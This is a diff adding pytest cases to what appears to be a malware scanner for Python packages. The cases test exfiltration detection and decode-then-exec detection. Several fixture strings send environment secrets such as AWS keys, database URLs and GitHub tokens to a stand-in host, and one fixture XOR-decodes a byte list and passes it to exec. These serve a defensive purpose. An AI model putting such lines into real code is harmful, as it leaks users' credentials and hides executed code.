@@ -2809,3 +2809,108 @@ def test_other_commands_at_install_still_are_high(command):
     worst = {f.severity for f in result.findings if f.rule.startswith(("capability", "intent"))}
     assert worst & {"high", "critical"}
     assert result.verdict in FLAGGED
+
+
+# -- an address read from the environment is where a request goes, not what it sends -----------
+
+_CONFIGURED = """
+import os
+
+import requests
+
+{body}
+"""
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        'CLOUDS = requests.get(os.getenv("DEMO_METADATA_URL"), timeout=5).json()',
+        'url = os.environ["DEMO_ENDPOINT"]\nCLOUDS = requests.get(url, timeout=5).json()',
+        'CLOUDS = requests.get(url=os.environ.get("OLLAMA_HOST"), timeout=5).json()',
+    ],
+)
+def test_a_request_to_an_address_the_environment_configures_sends_nothing(body):
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _CONFIGURED.format(body=body)})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        # the variable sent as data, or inside another host's address
+        'requests.post("https://collector-cdn.net/in", data=os.getenv("DATABASE_URL"))',
+        'requests.get("https://collector-cdn.net/?u=" + os.environ["DATABASE_URL"])',
+        # a configured address, with a secret sent to it
+        'requests.get(os.getenv("DEMO_URL"), params={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})',
+        # a variable not named as an address, used as one
+        'requests.get(os.environ["AWS_SECRET_ACCESS_KEY"])',
+        # bound to an address, then rebound to a secret
+        'url = os.getenv("DEMO_URL")\nurl = os.getenv("GITHUB_TOKEN")\nrequests.get(url)',
+    ],
+)
+def test_the_environment_sent_to_a_host_still_is_exfiltration(body):
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _CONFIGURED.format(body=body)})
+    assert found(result, "intent.exfiltration")
+    assert result.verdict in FLAGGED
+
+
+# -- the text a replacement cuts out is not in its result ----------------------------------------
+
+_FORMULA = """
+import re
+
+
+def _substitute(expr, names):
+    for i in range(len(names)):
+        expr = {replace}
+    return expr
+
+
+def evaluate(formula, names, values):
+    target = _substitute(formula, names)
+    return eval(target, {{}}, {{"values": values}})
+"""
+
+
+@pytest.mark.parametrize(
+    "replace",
+    [
+        "expr.replace('$%s' % chr(ord('a') + i), 'values[%d]' % i)",
+        "re.sub(re.escape('$' + chr(ord('a') + i)), 'values[%d]' % i, expr)",
+    ],
+)
+def test_a_placeholder_named_by_character_arithmetic_and_replaced_is_not_deciphered(replace):
+    source = _FORMULA.format(replace=replace)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/formula.py": source})
+    assert not found(result, "intent.decode-execute")
+    assert result.verdict not in FLAGGED
+
+
+_HIDDEN = """
+import re
+
+BLOB = [104, 109, 117, 112, 118, 124]
+
+
+def run():
+    code = "".join(chr(c ^ 7) for c in BLOB)
+    exec({sink})
+"""
+
+
+@pytest.mark.parametrize(
+    "sink",
+    [
+        "code.replace('#', '')",  # the deciphered text itself, edited
+        "'PAYLOAD'.replace('PAYLOAD', code)",  # put in by the replacement
+        "re.sub('#', '', code)",
+        "re.sub('#', code, '#')",
+    ],
+)
+def test_deciphered_text_that_a_replacement_keeps_or_puts_in_still_is(sink):
+    source = _HIDDEN.format(sink=sink)
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/hidden.py": source})
+    assert severities(result, "intent.decode-execute") & {"high", "critical"}
+    assert result.verdict in FLAGGED
